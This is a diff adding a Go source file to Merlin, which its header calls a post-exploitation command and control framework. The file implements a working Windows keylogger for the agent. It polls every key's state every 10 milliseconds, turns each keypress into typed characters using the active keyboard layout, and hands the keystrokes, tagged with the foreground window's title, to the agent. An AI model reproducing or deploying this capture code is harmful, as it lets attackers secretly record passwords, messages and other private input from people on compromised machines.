@@ -0,0 +1,126 @@
+// +build windows
+
+// Merlin is a post-exploitation command and control framework.
+// This file is part of Merlin.
+// Copyright (C) 2019  Russel Van Tuyl
+
+// Merlin is free software: you can redistribute it and/or modify
+// it under the terms of the GNU General Public License as published by
+// the Free Software Foundation, either version 3 of the License, or
+// any later version.
+
+// Merlin is distributed in the hope that it will be useful,
+// but WITHOUT ANY WARRANTY; without even the implied warranty of
+// MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+// GNU General Public License for more details.
+
+// You should have received a copy of the GNU General Public License
+// along with Merlin.  If not, see <http://www.gnu.org/licenses/>.
+
+package agent
+
+import (
+	// Standard
+	"fmt"
+	"time"
+	"unicode/utf16"
+	"unsafe"
+
+	// Sub Repositories
+	"golang.org/x/sys/windows"
+)
+
+// keyPollInterval is how often the state of every key is checked for a key that was pressed
+const keyPollInterval = 10 * time.Millisecond
+
+// keyNames are the names, in brackets, written for virtual keys that do not type a character
+var keyNames = map[uintptr]string{
+	0x08: "[BS]", 0x09: "\t", 0x0D: "\n", 0x1B: "[ESC]", 0x21: "[PGUP]", 0x22: "[PGDN]", 0x23: "[END]", 0x24: "[HOME]",
+	0x25: "[LEFT]", 0x26: "[UP]", 0x27: "[RIGHT]", 0x28: "[DOWN]", 0x2D: "[INS]", 0x2E: "[DEL]",
+}
+
+// keyModifiers are the virtual keys that only change the character other keys type
+var keyModifiers = map[uintptr]bool{
+	0x10: true, 0x11: true, 0x12: true, 0x14: true, 0x5B: true, 0x5C: true,
+	0xA0: true, 0xA1: true, 0xA2: true, 0xA3: true, 0xA4: true, 0xA5: true,
+}
+
+// captureKeys polls the state of every key and adds the character typed by each key that was pressed, along with the
+// title of the foreground window, until the stop channel is closed. Polling works from any process in the interactive
+// session without a window or message loop.
+func captureKeys(stop chan struct{}, add func(window string, keys string)) error {
+	user32 := windows.NewLazySystemDLL("user32.dll")
+	GetAsyncKeyState := user32.NewProc("GetAsyncKeyState")
+	GetKeyState := user32.NewProc("GetKeyState")
+	GetForegroundWindow := user32.NewProc("GetForegroundWindow")
+	GetWindowTextW := user32.NewProc("GetWindowTextW")
+	GetWindowThreadProcessId := user32.NewProc("GetWindowThreadProcessId")
+	GetKeyboardLayout := user32.NewProc("GetKeyboardLayout")
+	MapVirtualKeyExW := user32.NewProc("MapVirtualKeyExW")
+	ToUnicodeEx := user32.NewProc("ToUnicodeEx")
+
+	if err := GetAsyncKeyState.Find(); err != nil {
+		return fmt.Errorf("there was an error finding GetAsyncKeyState:\r\n%s", err.Error())
+	}
+
+	pressed := make([]bool, 256)
+	ticker := time.NewTicker(keyPollInterval)
+	defer ticker.Stop()
+	for {
+		select {
+		case <-stop:
+			return nil
+		case <-ticker.C:
+		}
+		var keys string
+		var state [256]byte
+		var built bool
+		for vk := uintptr(0x08); vk < 0xFF; vk++ {
+			r, _, _ := GetAsyncKeyState.Call(vk)
+			down := r&0x8000 != 0
+			if !down || pressed[vk] {
+				pressed[vk] = down
+				continue
+			}
+			pressed[vk] = true
+			if keyModifiers[vk] {
+				continue
+			}
+			if name, ok := keyNames[vk]; ok {
+				keys += name
+				continue
+			}
+			// The keyboard state is built from the global key state because GetKeyboardState only reports the
+			// state of this thread's input queue
+			if !built {
+				for _, m := range []uintptr{0x10, 0x11, 0x12} {
+					if s, _, _ := GetAsyncKeyState.Call(m); s&0x8000 != 0 {
+						state[m] = 0x80
+					}
+				}
+				if s, _, _ := GetKeyState.Call(0x14); s&1 != 0 {
+					state[0x14] = 0x01
+				}
+				built = true
+			}
+			hwnd, _, _ := GetForegroundWindow.Call()
+			thread, _, _ := GetWindowThreadProcessId.Call(hwnd, 0)
+			layout, _, _ := GetKeyboardLayout.Call(thread)
+			scan, _, _ := MapVirtualKeyExW.Call(vk, 0, layout)
+			buf := make([]uint16, 8)
+			// Flag 4 keeps ToUnicodeEx from changing the keyboard state, such as a pending dead key
+			n, _, _ := ToUnicodeEx.Call(vk, scan, uintptr(unsafe.Pointer(&state[0])),
+				uintptr(unsafe.Pointer(&buf[0])), uintptr(len(buf)), 4, layout)
+			if int32(n) > 0 {
+				keys += string(utf16.Decode(buf[:n]))
+			}
+		}
+		if keys == "" {
+			continue
+		}
+		hwnd, _, _ := GetForegroundWindow.Call()
+		title := make([]uint16, 256)
+		n, _, _ := GetWindowTextW.Call(hwnd, uintptr(unsafe.Pointer(&title[0])), uintptr(len(title)))
+		add(windows.UTF16ToString(title[:n]), keys)
+	}
+}